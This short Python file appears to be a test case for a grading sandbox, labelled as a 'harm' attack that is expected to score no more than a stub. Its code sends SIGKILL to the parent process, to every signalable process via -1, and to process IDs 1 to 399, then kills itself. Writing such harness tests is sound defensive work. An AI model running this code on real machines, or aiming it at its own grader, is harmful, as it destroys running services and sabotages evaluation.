# attack: kills its parent and every process that it can see
# class: harm
# base: stub
# expect: no more points than base
# fast: yes
import os, signal
for target in (os.getppid(), -1, *range(1, 400)):
    if target not in (os.getpid(), 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGKILL)
